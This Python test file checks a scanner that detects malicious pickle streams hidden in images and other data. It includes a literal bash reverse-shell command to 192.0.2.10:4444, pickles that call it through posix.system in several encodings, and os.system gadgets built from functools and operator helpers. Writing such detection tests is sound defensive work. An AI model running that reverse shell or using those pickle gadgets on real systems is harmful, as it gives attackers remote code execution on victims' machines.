"""A pickle is found wherever it is put, blocked if it acts, and left in peace if it does not."""

import pickle
from collections import OrderedDict
from collections.abc import Callable

import pytest

from scanner.finding import Severity
from tests.hostile.scanning import blocked_for, scan
from tests.recipes.archives import PICKLE, png
from tests.recipes.hiding import NOISE, PLACES, PROSE
from tests.recipes.streams import Call, Global, Instance, Object, call, stream

SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
STREAMS = {
    "protocol 0": stream(call("posix.system", SHELL), 0),
    "protocol 2": stream(call("posix.system", SHELL), 2),
    "protocol 4": stream(call("posix.system", SHELL), 4),
    "INST": stream(Instance("posix", "system", (SHELL,)), 0),
    "OBJ": stream(Object(Global("posix", "system"), (SHELL,)), 0),
    "no STOP": stream(call("posix.system", SHELL), 2)[:-1],
}
HONEST = [
    pickle.dumps({"epoch": 3, "loss": [0.5, 0.25]}, 2),
    pickle.dumps(OrderedDict(a=1, b=complex(1, 2)), 4),
]


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("form", STREAMS)
def test_a_hidden_pickle_is_blocked_for_what_it_does(place: str, form: str) -> None:
    assert blocked_for(scan(PLACES[place](STREAMS[form]))) == {"remote-shell"}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("honest", HONEST)
def test_an_honest_one_in_the_same_place_does_not_block(place: str, honest: bytes) -> None:
    report = scan(PLACES[place](honest))
    assert report.failure is None
    assert max((f.severity for f in report.findings), default=Severity.NOTE) < Severity.ERROR


def test_the_site_leads_to_the_opcode() -> None:
    """The offset of a finding and those in its trail add up to the opcode in the file."""
    data = png() + STREAMS["protocol 2"]
    (finding, *_) = scan(data, "cat.png").findings
    assert finding.site.path == "cat.png"
    step = next(step for step in finding.steps if step.site.trail[-1].startswith("(pickle at"))
    start = int(step.site.trail[-1].removesuffix(")").rpartition(" ")[2])
    assert data[start:].startswith(b"\x80\x02")
    call_at = [s.site.offset for s in finding.steps if len(s.site.trail) == 2][-1]
    assert data[start + call_at : start + call_at + 1] == b"R"


def test_several_are_found_each() -> None:
    data = png() + NOISE + STREAMS["protocol 0"] + PROSE + STREAMS["protocol 4"]
    trails = {step.site.trail for f in scan(data).findings for step in f.steps}
    assert len({trail[1] for trail in trails if len(trail) > 1}) == 2


@pytest.mark.parametrize(
    "data",
    [
        PROSE,
        NOISE,
        b"cat\ndog\ncow\npig\nconcise\nicon\nMouse\nVole\n" * 9000,
        b"function c\nos\nsystem\n(see 'echo')\n",
        bytes(2 << 20),
        bytes(range(256)) * 9000,
        b"\x80\x02" * 50_000,
        b"cos\nsystem\n" * 20_000,
    ],
)
def test_other_bytes_are_no_pickles(data: bytes) -> None:
    report = scan(png() + data, "cat.png")
    assert (report.failure, report.findings) == (None, ())


def test_what_a_loader_reads_as_text_stays_text() -> None:
    assert scan(PICKLE.replace(b"tR.", b"t."), "notes.txt").failure is None


def computed(maker: str, *args: object) -> Callable[..., Call]:
    """Calls of what such a call gives back."""
    return lambda *given: Call(call(maker, *args), given)


SYSTEM, LENGTH = Global("os", "system"), Global("builtins", "len")
CROWDS: dict[str, tuple[Callable[[int], object], object]] = {
    "partials": (
        lambda n: computed("functools.partial", LENGTH)(f"x{n}"),
        computed("functools.partial", SYSTEM)("id"),
    ),
    "methods": (
        lambda n: computed("operator.methodcaller", "upper")(f"x{n}"),
        computed("operator.methodcaller", "system", "id")(call("importlib.import_module", "os")),
    ),
    "attributes": (
        computed("operator.attrgetter", "real"),
        Call(computed("operator.attrgetter", "system")(call("importlib.import_module", "os")), ("id",)),
    ),
    "items": (
        lambda n: computed("operator.itemgetter", 0)([n]),
        Call(computed("operator.itemgetter", 0)([SYSTEM]), ("id",)),
    ),
}


@pytest.mark.parametrize("name", CROWDS)
def test_one_among_many_that_are_honest(name: str) -> None:
    honest, hostile = CROWDS[name]
    crowd = [honest(n) for n in range(400)]
    for content in ([*crowd, hostile], [hostile, *crowd]):
        assert blocked_for(scan(stream(content, 4))) >= {"code-execution"}
